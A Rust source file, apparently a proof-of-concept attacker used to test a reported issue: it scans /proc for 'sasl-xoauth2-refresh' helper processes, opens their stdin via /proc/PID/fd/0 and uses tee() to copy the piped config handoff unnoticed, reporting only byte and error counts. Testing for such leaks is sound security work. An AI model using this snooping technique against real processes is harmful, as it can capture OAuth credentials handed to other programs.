//! The attacker of issue 11, part 2: a process of the mail system's user
//! that watches for new `sasl-xoauth2-refresh` processes and copies their
//! stdin, the config handoff, without consuming it: it opens
//! `/proc/PID/fd/0` and `tee()`s from it, keeping every descriptor it got
//! and trying again until the pipe is gone (so a descriptor opened early
//! still catches data written later).
//!
//! Runs until its stdin closes, then prints one line:
//! `helpers N opened M bytes B errors E0:count,...`.

use std::collections::{BTreeMap, HashSet};
use std::ffi::CString;
use std::io::Read;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

fn main() {
    let stop = Arc::new(AtomicBool::new(false));
    let s = stop.clone();
    std::thread::spawn(move || {
        let mut b = [0u8; 64];
        while std::io::stdin()
            .read(&mut b)
            .map(|n| n > 0)
            .unwrap_or(false)
        {}
        s.store(true, Ordering::SeqCst);
    });
    let (sink_r, sink_w) = pipe();
    let mut seen = HashSet::new();
    let mut held: Vec<(String, OwnedFd)> = Vec::new();
    let (mut helpers, mut opened, mut bytes) = (0u64, 0u64, 0u64);
    let mut errors: BTreeMap<i32, u64> = BTreeMap::new();
    let mut buf = vec![0u8; 1 << 16];
    while !stop.load(Ordering::SeqCst) {
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|b| b.is_ascii_digit()) || seen.contains(&name) {
                continue;
            }
            let Ok(cmd) = std::fs::read(e.path().join("cmdline")) else {
                continue;
            };
            if !cmd.starts_with(b"sasl-xoauth2-refresh\0") {
                continue; // maybe not exec'd yet: look again next round
            }
            seen.insert(name.clone());
            helpers += 1;
            let p = CString::new(format!("/proc/{name}/fd/0")).unwrap();
            // SAFETY: p is NUL-terminated; a plain open.
            let fd = unsafe {
                libc::open(
                    p.as_ptr(),
                    libc::O_RDONLY | libc::O_NONBLOCK | libc::O_CLOEXEC,
                )
            };
            if fd < 0 {
                let errno = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
                *errors.entry(errno).or_default() += 1;
                continue;
            }
            opened += 1;
            // SAFETY: fd was just opened and is ours.
            held.push((name, unsafe { OwnedFd::from_raw_fd(fd) }));
        }
        held.retain(|(pid, fd)| {
            // SAFETY: both descriptors are ours; tee copies without consuming.
            let n = unsafe {
                libc::tee(
                    fd.as_raw_fd(),
                    sink_w.as_raw_fd(),
                    1 << 16,
                    libc::SPLICE_F_NONBLOCK,
                )
            };
            if n > 0 {
                bytes += n as u64;
                // SAFETY: draining our own pipe into a valid buffer.
                unsafe { libc::read(sink_r.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
                return true;
            }
            // Keep it while the process lives: data may come later.
            n < 0 && std::path::Path::new(&format!("/proc/{pid}")).exists()
        });
    }
    let errs: Vec<String> = errors.iter().map(|(e, n)| format!("E{e}:{n}")).collect();
    println!(
        "helpers {helpers} opened {opened} bytes {bytes} errors {}",
        if errs.is_empty() {
            "-".into()
        } else {
            errs.join(",")
        }
    );
}

fn pipe() -> (OwnedFd, OwnedFd) {
    let mut fds = [0; 2];
    // SAFETY: fds is a valid array of two ints.
    let r = unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC | libc::O_NONBLOCK) };
    assert_eq!(r, 0, "pipe2");
    // SAFETY: both were just created and are ours.
    unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) }
}
